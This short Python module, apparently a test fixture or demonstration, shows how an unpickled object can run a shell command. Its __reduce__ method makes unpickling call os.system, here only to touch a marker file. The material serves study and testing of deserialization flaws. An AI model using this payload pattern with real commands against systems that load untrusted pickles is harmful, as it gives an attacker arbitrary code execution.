"""What a pickle can do to those who trust it."""

from __future__ import annotations

import os
from pathlib import Path


class Hostile:
    """Makes a file when it is unpickled by those who let it."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (f"touch {self.marker}",)
